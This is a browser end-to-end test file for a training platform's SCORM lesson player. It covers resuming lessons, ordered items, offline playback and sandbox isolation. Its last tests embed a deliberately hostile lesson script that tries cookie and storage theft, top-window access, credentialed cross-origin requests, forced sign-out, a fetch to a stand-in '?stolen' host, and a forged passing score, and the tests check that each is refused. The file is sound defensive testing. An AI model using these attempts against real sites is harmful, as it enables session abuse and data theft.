import type { FrameLocator, Locator, Page } from 'playwright-core';
import { expect, inject, test } from 'vitest';
import {
  countingToFive,
  scormZip,
  secondAfterFirst,
  type ScormEdition,
  type ScormItem
} from '#assembly/story/scorm.ts';
import { m } from '#messages';
import { lessonsOriginOf } from '#platform/settings/index.server.ts';
import { barriersOn, inBrowser } from '#platform/testing/browser.ts';
import { draftsOn, openDevice, type Device } from '#platform/testing/device.ts';
import { button, fillIn, link, once, onAPhone, press, read, withoutScript } from './walk.ts';

const { as, open } = inBrowser();

/** A trainer writes a course of one package, and publishes it; without script. */
async function courseOf(bytes: Buffer): Promise<{ address: string; title: string }> {
  const trainer = await as('trainer', withoutScript);
  const title = once('Course');
  await trainer.goto('/training/courses/new');
  const [kind, language] = await Promise.all(
    ['kind', 'language'].map((name) => trainer.locator(`select[name=${name}] option`).nth(1).innerText())
  );
  await fillIn(trainer, { title, kind: kind!, language: language! });
  await press(button(trainer, m.training_course_begin_writing()));
  const draft = new URL(trainer.url()).pathname;
  await press(link(trainer, m.training_package_add()));
  await trainer
    .locator('input[type=file]')
    .setInputFiles({ name: 'lesson.zip', mimeType: 'application/zip', buffer: bytes });
  await press(button(trainer, m.training_package_add()));
  expect(await read(trainer)).toContain(m.training_package_added());
  await trainer.goto(draft);
  await press(button(trainer, m.training_course_publish()));
  await trainer.context().close();
  return { address: draft.replace(/\/draft$/, ''), title };
}

async function takeUp(key: string, address: string): Promise<Page> {
  const page = await as(key, onAPhone);
  await page.goto(address);
  await press(button(page, m.training_course_take()));
  await press(page.locator('section[aria-labelledby=packages] a').first());
  return page;
}

const inside = (page: Page): FrameLocator => page.frameLocator('main iframe').frameLocator('iframe');
const saved = (page: Page) =>
  page.getByRole('status').filter({ hasText: m.training_package_saved() }).waitFor();

/** Presses the button that opens or goes on with one of the package's items. */
async function openLesson(page: Page, item = 0): Promise<void> {
  await press(page.locator('main form button').nth(item));
  await page.locator('main iframe').waitFor();
}

async function leave(page: Page): Promise<void> {
  await button(page, m.training_package_close()).click();
  await page.waitForURL(/\/packages\/[^/]+$/);
}

/** A coordinator has a module of the supporters' path ask for the course's package in place of its hours; without script. */
async function moduleAskingFor(title: string): Promise<string> {
  const coordinator = await as('coordinator', withoutScript);
  await coordinator.goto('/training/paths');
  await press(link(coordinator, m.training_path_supporter()));
  await press(coordinator.locator('main h4 a').last());
  const test = m.training_test_choice({ course: title, quiz: 'Counting to five' });
  await fillIn(coordinator, { test, alone: 'yes' });
  await press(button(coordinator, m.training_module_test_save()));
  expect(await read(coordinator)).toContain(test);
  return new URL(coordinator.url()).pathname.split('/').at(-1)!;
}

async function standingIn(page: Page, module: string): Promise<string> {
  await page.goto('/training/mine');
  return page.locator(`a[href$="#module-${module}"] + small`).first().innerText();
}

test('a learner begins a SCORM 1.2 lesson, leaves, goes on where they were, fails, and then passes the module that asks for it', async () => {
  const { address, title } = await courseOf(countingToFive());
  const module = await moduleAskingFor(title);
  const page = await takeUp('supporter', address);
  const lesson = page.url();
  await openLesson(page);
  expect(await barriersOn(page)).toEqual([]);
  await inside(page).getByRole('button', { name: 'Next' }).first().click();
  await inside(page).getByRole('heading', { name: 'What the pause says' }).waitFor();
  await leave(page);
  expect(await read(page)).toContain(m.training_package_under_way());

  await openLesson(page);
  await inside(page).getByRole('heading', { name: 'What the pause says' }).waitFor();
  await inside(page).getByRole('button', { name: 'Next' }).first().click();
  await inside(page)
    .getByRole('button', { name: /^Tell them/ })
    .click();
  await leave(page);
  expect(await read(page)).toContain(m.training_quiz_not_passed());
  expect(await standingIn(page, module)).not.toContain(m.training_standing_done());

  await page.goto(lesson);
  await openLesson(page);
  const next = inside(page).getByRole('button', { name: 'Next' }).first();
  await next.click();
  await next.click();
  await inside(page).getByRole('button', { name: /^Wait/ }).click();
  await leave(page);
  const said = await read(page);
  expect(said).toContain(m.training_quiz_passed());
  expect(said).toContain('100');
  await page.goto(address);
  expect(await read(page)).toContain(m.training_quiz_passed());
  expect(await standingIn(page, module)).toContain(m.training_standing_done());
});

const diaryItem = { identifier: 'one', title: 'Diary', href: 'deep/er/index.html?mode=a' };
/** A lesson that writes what it was told as it began, and then some. */
const diary = (edition: ScormEdition, items: ScormItem[] = [diaryItem]) =>
  scormZip({
    edition,
    title: 'Diary',
    items,
    parts: {
      'deep/er/index.html': '<pre></pre><script src="../diary.js"></script>',
      'deep/diary.js': diaryScript
    }
  });
const diaryScript = `let above = window;
while (!above.API_1484_11 && above.parent !== above) above = above.parent;
const api = above.API_1484_11;
api.Initialize('');
const told = Object.fromEntries(['entry', 'location', 'suspend_data', 'total_time', 'score.scaled', 'completion_status', 'learner_name']
  .map((name) => [name, api.GetValue('cmi.' + name)]));
document.querySelector('pre').textContent = JSON.stringify({ ...told, asked: location.search });
for (const [name, value] of Object.entries({ location: 'page 4', suspend_data: 'long words; '.repeat(3000), 'score.scaled': '0.75',
  completion_status: 'incomplete', exit: 'suspend', session_time: 'PT5M', 'interactions.0.id': 'q', 'interactions.0.type': 'choice' }))
  api.SetValue('cmi.' + name, value);
api.Commit('');`;

test('a SCORM 2004 lesson finds again what it kept, also when its window was simply closed', async () => {
  const { address } = await courseOf(diary('2004'));
  const page = await takeUp('supporter', address);
  const told = async () => JSON.parse(await inside(page).locator('pre', { hasText: '{' }).innerText());
  await openLesson(page);
  expect(await told()).toMatchObject({
    entry: 'ab-initio',
    location: '',
    asked: '?mode=a',
    learner_name: 'Amina Diallo'
  });
  await saved(page);
  // Away without a word.
  await page.goto('/today');
  await page.goto(address);
  await press(page.locator('section[aria-labelledby=packages] a').first());
  await openLesson(page);
  const again = await told();
  expect(again).toMatchObject({
    entry: 'resume',
    location: 'page 4',
    'score.scaled': '0.75',
    completion_status: 'incomplete'
  });
  expect(again.suspend_data).toHaveLength(36_000);
  expect(again.total_time).toBe('PT300S');
});

test('a package of several parts shows its contents, and keeps each one’s place', async () => {
  const evening = { identifier: 'two', title: 'Evening', href: 'deep/er/index.html?mode=b' };
  const inItem = '<item identifier="three" identifierref="r-one"><title>Morning</title></item>';
  const { address } = await courseOf(diary('2004', [{ ...diaryItem, inItem }, evening]));
  const page = await takeUp('supporter', address);
  const chapters = page.locator('main :is(h2, li bdi)');
  expect(await chapters.allInnerTexts()).toEqual(['Diary', 'Diary', 'Morning', 'Evening']);
  const told = async () => JSON.parse(await inside(page).locator('pre', { hasText: '{' }).innerText());
  for (const part of [2, 0]) {
    await openLesson(page, part);
    expect(await told()).toMatchObject({ entry: 'ab-initio', asked: part === 2 ? '?mode=b' : '?mode=a' });
    await saved(page);
    await leave(page);
  }
  const says = (part: number) => page.locator('main li').nth(part).innerText();
  expect(await says(0)).toContain(m.training_package_under_way());
  expect(await says(1)).toContain(m.training_package_not_begun());
  expect(await says(2)).toContain(m.training_package_under_way());
  await openLesson(page, 2);
  expect(await told()).toMatchObject({ entry: 'resume', location: 'page 4', asked: '?mode=b' });
});

/** Two parts by SCORM 2004, the second only after the first is passed; each says what it is told, and goes on by itself. */
const inOrder = () =>
  scormZip({
    edition: '2004',
    title: 'In order',
    items: [
      {
        identifier: 'one',
        title: 'Listening',
        href: 'part.html?Listening',
        inItem: secondAfterFirst.inFirst
      },
      {
        identifier: 'two',
        title: 'Answering',
        href: 'part.html?Answering',
        inItem: secondAfterFirst.inSecond
      }
    ],
    inOrganisation: secondAfterFirst.inOrganisation,
    parts: {
      'part.html': `<!doctype html><title>Part</title><h1></h1><p></p>
<button data-success="failed">I do not know yet</button><button data-success="passed">I can do this</button><script src="part.js"></script>`,
      'part.js': `let above = window;
while (!above.API_1484_11 && above.parent !== above) above = above.parent;
const api = above.API_1484_11;
api.Initialize('');
document.querySelector('h1').textContent = decodeURIComponent(location.search.slice(1));
const way = (name) => api.GetValue('adl.nav.request_valid.' + name);
document.querySelector('p').textContent = 'on: ' + way('continue') + ', back: ' + way('previous');
document.addEventListener('click', ({ target }) => {
  if (!target.dataset.success) return;
  api.SetValue('cmi.completion_status', 'completed');
  api.SetValue('cmi.success_status', target.dataset.success);
  api.SetValue('cmi.score.scaled', target.dataset.success === 'passed' ? '1' : '0.2');
  api.SetValue('adl.nav.request', 'continue');
  api.Terminate('');
});`
    }
  });

/** Presses what leads to another part, and waits for its page: a frame is not to be looked into while it goes away. */
async function toAnotherPart(what: Locator): Promise<void> {
  const page = what.page();
  const part = page.url();
  await what.click();
  await page.waitForURL(({ href }) => href !== part);
}

test('a SCORM 2004 package of two parts plays in its order, goes on by itself, and is refused out of order in words', async () => {
  const { address } = await courseOf(inOrder());
  const page = await takeUp('supporter', address);
  const lesson = page.url();
  const first = page.locator('main li').first();
  const second = page.locator('main li').last();
  expect(await second.innerText()).toContain(m.training_package_later());
  expect(await second.locator('button').count()).toBe(0);
  expect(await barriersOn(page)).toEqual([]);

  // Somebody sends the form that the page does not offer.
  await first.locator('input[name=item]').evaluate((input: HTMLInputElement) => (input.value = 'two'));
  await press(first.locator('button'));
  expect(await read(page)).toContain(m.training_package_not_yet());

  await press(button(page, m.training_package_begin()));
  await inside(page).getByRole('heading', { name: 'Listening' }).waitFor();
  expect(await inside(page).locator('p').innerText()).toBe('on: true, back: false');
  await inside(page).getByRole('button', { name: 'I do not know yet' }).click();
  await page.waitForURL(/\/packages\/[^/]+\?not-yet$/);
  expect(await read(page)).toContain(m.training_package_not_yet());

  await press(first.locator('button'));
  await toAnotherPart(inside(page).getByRole('button', { name: 'I can do this' }));
  await inside(page).getByRole('heading', { name: 'Answering' }).waitFor();
  expect(await inside(page).locator('p').innerText()).toContain('back: true');
  await toAnotherPart(button(page, m.training_package_previous_item()));
  await inside(page).getByRole('heading', { name: 'Listening' }).waitFor();
  await toAnotherPart(button(page, m.training_package_next_item()));
  await inside(page).getByRole('heading', { name: 'Answering' }).waitFor();
  await inside(page).getByRole('button', { name: 'I can do this' }).click();
  await page.waitForURL(lesson);
  expect(await page.locator('main').innerText()).toContain(m.training_quiz_passed());
  expect(await second.innerText()).not.toContain(m.training_package_later());
});

/** Opens the field kit's page of a course, where its lessons made elsewhere stand. */
async function openInField(page: Page, title: string): Promise<void> {
  await page.goto('/field');
  await press(link(page, title));
  await page.getByRole('heading', { name: m.training_packages_title() }).waitFor();
}

/** Takes the course up and opens it in the field kit, until the device has kept all of it and the lessons' address has room. */
async function keptOn(device: Device, address: string, title: string): Promise<Page> {
  const page = await device.signIn('assessor', address);
  await press(button(page, m.training_course_take()));
  await page.goto('/field');
  await link(page, title).waitFor();
  await page.evaluate(() => navigator.serviceWorker.ready);
  await openInField(page, title);
  await button(page, m.training_field_files_drop()).waitFor();
  // The frame that asked for room goes when there is some.
  await page.locator('main iframe').waitFor({ state: 'detached' });
  return page;
}

test('a package kept on a device plays with the network cut, the phone dies, and what it said arrives once', async () => {
  const device = await openDevice({ roomForStrangers: true });
  try {
    const { address, title } = await courseOf(countingToFive());
    let page = await keptOn(device, address, title);
    expect(await read(page)).not.toContain(m.training_field_package_no_room());

    device.cutNetwork();
    page = await device.killAndReopen();
    await openInField(page, title);
    await button(page, m.training_package_open()).click();
    await inside(page).getByRole('heading', { name: 'The pause' }).waitFor();
    await inside(page).getByRole('button', { name: 'Next' }).first().click();
    await inside(page).getByRole('heading', { name: 'What the pause says' }).waitFor();
    await expect
      .poll(async () => JSON.stringify(await draftsOn(page)), {
        message: 'the word of the second page is kept'
      })
      .toContain('"lesson_location":"1"');

    page = await device.killAndReopen();
    await openInField(page, title);
    await page.getByText(m.offline_unsent({ count: 1 })).waitFor();
    await button(page, m.training_package_open()).click();
    await inside(page).getByRole('heading', { name: 'What the pause says' }).waitFor();
    await inside(page).getByRole('button', { name: 'Next' }).first().click();
    await inside(page).getByRole('button', { name: /^Wait/ }).click();
    expect(await barriersOn(page)).toEqual([]);
    await button(page, m.training_package_close()).click();
    await page.getByText(m.offline_unsent({ count: 2 })).waitFor();

    device.mendNetwork();
    page = await device.signIn('assessor', '/field');
    await page.getByText(m.offline_all_sent()).waitFor();
    await page.goto(address);
    await press(page.locator('section[aria-labelledby=packages] a').first());
    const said = await read(page);
    expect(said).toContain(m.training_quiz_passed());
    expect(said).toContain('100');
    // What the device holds now is what the server says.
    await openInField(page, title);
    await page.locator('main li', { hasText: m.training_quiz_passed() }).waitFor();
  } finally {
    await device.close();
  }
});

test('a browser that gives strangers no room says so, and the course stays as it was', async () => {
  const device = await openDevice();
  try {
    const { address, title } = await courseOf(countingToFive());
    const page = await device.signIn('assessor', address);
    await press(button(page, m.training_course_take()));
    await page.goto('/field');
    await link(page, title).waitFor();
    await openInField(page, title);
    await page.getByText(m.training_field_package_no_room()).waitFor();
  } finally {
    await device.close();
  }
});

test('without script there is a plain sentence, and the lesson’s page is still there', async () => {
  const page = await as('supporter', withoutScript);
  const { address } = await courseOf(diary('2004'));
  await page.goto(address);
  await press(button(page, m.training_course_take()));
  await press(page.locator('section[aria-labelledby=packages] a').first());
  expect(await read(page)).toContain(m.training_package_needs_script());
  await press(page.locator('main form button').first());
  expect(await read(page)).toContain(m.training_package_needs_script());
  expect(await page.locator('iframe').count()).toBe(0);
});

test('a package opened in a second window is saved there alone, and the first one says so', async () => {
  const { address } = await courseOf(countingToFive());
  const page = await takeUp('supporter', address);
  const lesson = page.url();
  await openLesson(page);
  await inside(page).getByRole('heading', { name: 'The pause' }).waitFor();
  const second = await page.context().newPage();
  await second.goto(lesson);
  await openLesson(second);
  await inside(second).getByRole('button', { name: 'Next' }).first().click();
  await saved(second);
  // The first may already have had something to say.
  const toldSo = page.getByText(m.training_package_opened_elsewhere());
  const goesOn = inside(page).getByRole('button', { name: 'Next' }).first().click();
  await Promise.race([goesOn.catch(() => undefined), toldSo.waitFor()]);
  await toldSo.waitFor();
});

/** A package that tries everything it should not be able to do, and writes down what came of each. */
const hostile = (ours: string) =>
  scormZip({
    edition: '1.2',
    title: 'Hostile',
    items: [{ identifier: 'one', title: 'Hostile', href: 'index.html' }],
    parts: {
      'index.html': `<!doctype html><title>Hostile</title><pre></pre><iframe name="inner"></iframe><script src="hostile.js"></script>`,
      'hostile.js': `const ours = ${JSON.stringify(ours)};
// Where a browser gives strangers no storage at all, even to ask for it is an error.
let storage = null;
try { storage = localStorage; } catch {}
const tries = {
  cookie: () => document.cookie || 'none',
  left_before: () => storage?.getItem('left') || 'none',
  topDocument: () => top.document.title,
  topStorage: () => top.localStorage.length,
  topScript: () => top.eval('1'),
  topAway: () => { top.location = ours + '/sign-out'; return 'went'; },
  popup: () => window.open(ours + '/today') ? 'opened' : 'none',
  read: async () => (await fetch(ours + '/today', { credentials: 'include' })).status,
  readBlind: async () => (await fetch(ours + '/today', { credentials: 'include', mode: 'no-cors' })).type,
  write: async () => (await fetch(ours + '/account/organisation', { method: 'POST', credentials: 'include', mode: 'no-cors', body: 'x' })).type,
  beacon: () => new Promise((done) => { document.addEventListener('securitypolicyviolation', (e) => done('refused'), { once: true }); navigator.sendBeacon(ours + '/sign-out', 'x'); setTimeout(done, 500, 'sent'); }),
  picture: () => new Promise((done) => Object.assign(new Image(), { onload: () => done('shown'), onerror: () => done('refused'), src: ours + '/favicon.svg' })),
  elsewhere: async () => (await fetch('https://example.org/?stolen', { mode: 'no-cors' })).type,
  pageHere: async () => (await fetch('/today')).status,
  accountHere: async () => (await fetch('/account')).status,
  metricsHere: async () => (await fetch('/metrics')).status,
  postHere: async () => (await fetch('/sign-in', { method: 'POST', body: 'x' })).status,
  otherPart: async () => (await fetch('../../../../../../training')).status,
  framed: () => new Promise((done) => {
    document.addEventListener('securitypolicyviolation', () => done('refused'), { once: true });
    document.querySelector('iframe').src = ours + '/today';
    setTimeout(done, 1500, 'shown');
  }),
  form: () => new Promise((done) => {
    document.addEventListener('securitypolicyviolation', () => done('refused'), { once: true });
    const form = Object.assign(document.createElement('form'), { action: ours + '/sign-out', method: 'post', target: 'inner' });
    document.body.append(form);
    form.submit();
    setTimeout(done, 1500, 'sent');
  }),
  forged: () => { top.postMessage({ say: 'report', cmi: { core: { lesson_status: 'passed', score: { raw: '100' } } } }, '*'); return 'sent'; }
};
(async () => {
  const found = {};
  for (const [name, attempt] of Object.entries(tries)) {
    try { found[name] = await Promise.race([attempt(), new Promise((done) => setTimeout(done, 3000, 'silence'))]); }
    catch { found[name] = 'refused'; }
  }
  storage?.setItem('left', 'behind');
  document.cookie = 'left=behind; max-age=9999';
  document.querySelector('pre').textContent = JSON.stringify(found);
})();`
    }
  });

const nothingReached = {
  cookie: 'none',
  left_before: 'none',
  topDocument: 'refused',
  topStorage: 'refused',
  topScript: 'refused',
  topAway: 'refused',
  popup: 'none',
  read: 'refused',
  readBlind: 'refused',
  write: 'refused',
  beacon: 'refused',
  picture: 'refused',
  elsewhere: 'refused',
  pageHere: 404,
  accountHere: 404,
  metricsHere: 404,
  postHere: 405,
  otherPart: 404,
  framed: 'refused',
  form: 'refused',
  forged: 'sent'
};

test('a hostile package reaches neither the session, nor our pages, nor anybody else, nor what was left by another', async () => {
  const ours = inject('origin');
  const { address } = await courseOf(hostile(ours));
  const page = await as('supporter');
  const answered: string[] = [];
  await page.goto(address);
  await press(button(page, m.training_course_take()));
  await press(page.locator('section[aria-labelledby=packages] a').first());
  const lesson = page.url();
  const found = async () =>
    JSON.parse(await inside(page).locator('pre:not(:empty)').innerText({ timeout: 40_000 }));
  await press(page.locator('main form button').first());
  page.on('response', (response) => {
    if (response.frame() !== page.mainFrame() && response.url().startsWith(ours))
      answered.push(response.url());
  });
  expect(await found()).toEqual(nothingReached);
  expect(answered).toEqual([]);
  expect(new URL(page.url()).pathname).toContain('/visits/');
  expect(await page.context().cookies(lessonsOriginOf(ours)!)).toEqual([]);

  // Still signed in, the forged word was not believed, and what was left behind is not there for the next.
  await page.goto(lesson);
  expect(await read(page)).not.toContain(m.training_quiz_passed());
  await press(page.locator('main form button').first());
  expect(await found()).toEqual(nothingReached);
});

test('a hostile package in the field kit reaches no more, and leaves nothing for the next', async () => {
  const device = await openDevice({ roomForStrangers: true });
  try {
    const ours = inject('origin');
    const { address, title } = await courseOf(hostile(ours));
    const page = await keptOn(device, address, title);
    const answered: string[] = [];
    page.on('response', (response) => {
      if (response.frame() !== page.mainFrame() && response.url().startsWith(ours))
        answered.push(response.url());
    });
    for (let time = 0; time < 2; time += 1) {
      await button(page, m.training_package_open()).click();
      const found = await inside(page).locator('pre:not(:empty)').innerText({ timeout: 40_000 });
      // The worker answers whatever is asked at that address, and has nothing but the package.
      expect(JSON.parse(found)).toEqual({ ...nothingReached, postHere: 404 });
      await button(page, m.training_package_close()).click();
      await page.locator('main iframe').waitFor({ state: 'detached' });
    }
    expect(answered).toEqual([]);
    expect(new URL(page.url()).pathname).toBe('/field');
    expect(await read(page)).not.toContain(m.training_quiz_passed());
    const worker = `${lessonsOriginOf(ours)}/o/green-valley/lessons/kit/content/any/hostile.js`;
    expect((await fetch(worker, { headers: { 'service-worker': 'script' } })).status).toBe(404);
  } finally {
    await device.close();
  }
});

test('lessons are answered at their own address alone, and nothing else is answered there', async () => {
  const ours = inject('origin');
  const lessons = lessonsOriginOf(ours)!;
  const { address } = await courseOf(countingToFive());
  const page = await takeUp('supporter', address);
  await openLesson(page);
  await inside(page).getByRole('heading', { name: 'The pause' }).waitFor();
  const content = page
    .frames()
    .find((frame) => frame.url().includes('/content/'))!
    .url();
  const { pathname } = new URL(content);
  const status = async (at: string, options = {}) =>
    (await fetch(at, { redirect: 'manual', ...options })).status;
  const reply = await fetch(content);
  expect(reply.status).toBe(200);
  expect(reply.headers.get('content-security-policy')).toContain('sandbox allow-scripts');
  expect(reply.headers.get('set-cookie')).toBeNull();
  const stage = await fetch(content.replace(/content\/.*/, 'stage/stage.html'));
  // Not "cookies": that would sign everybody out of a neighbouring name.
  expect(stage.headers.get('clear-site-data')).toBe('"storage"');
  expect(await status(ours + pathname)).toBe(404);
  expect(await status(ours + pathname.replace('lessons', '%6cessons'))).toBe(404);
  expect(
    await status(ours + pathname.replace('lessons', '%6cessons'), { headers: { 'x-trellis-lessons': 'yes' } })
  ).toBe(404);
  expect(await status(lessons + pathname.replace('lessons', '%6cessons'))).toBe(404);
  expect(await status(lessons + pathname.replace(/lessons\/[^/]+/, 'lessons/another-code'))).toBe(404);
  for (const path of ['/', '/today', '/sign-in', '/healthz', '/field', '/favicon.svg'])
    expect(await status(lessons + path)).toBe(404);
  expect(await status(content, { method: 'POST' })).toBe(405);
  expect((await fetch(content, { headers: { range: 'bytes=0-4' } })).status).toBe(206);
  // Somebody else's code opens nothing of theirs: a visitor to it is nobody.
  expect(await (await open()).goto(page.url()).then((answer) => new URL(answer!.url()).pathname)).toBe(
    '/sign-in'
  );
});
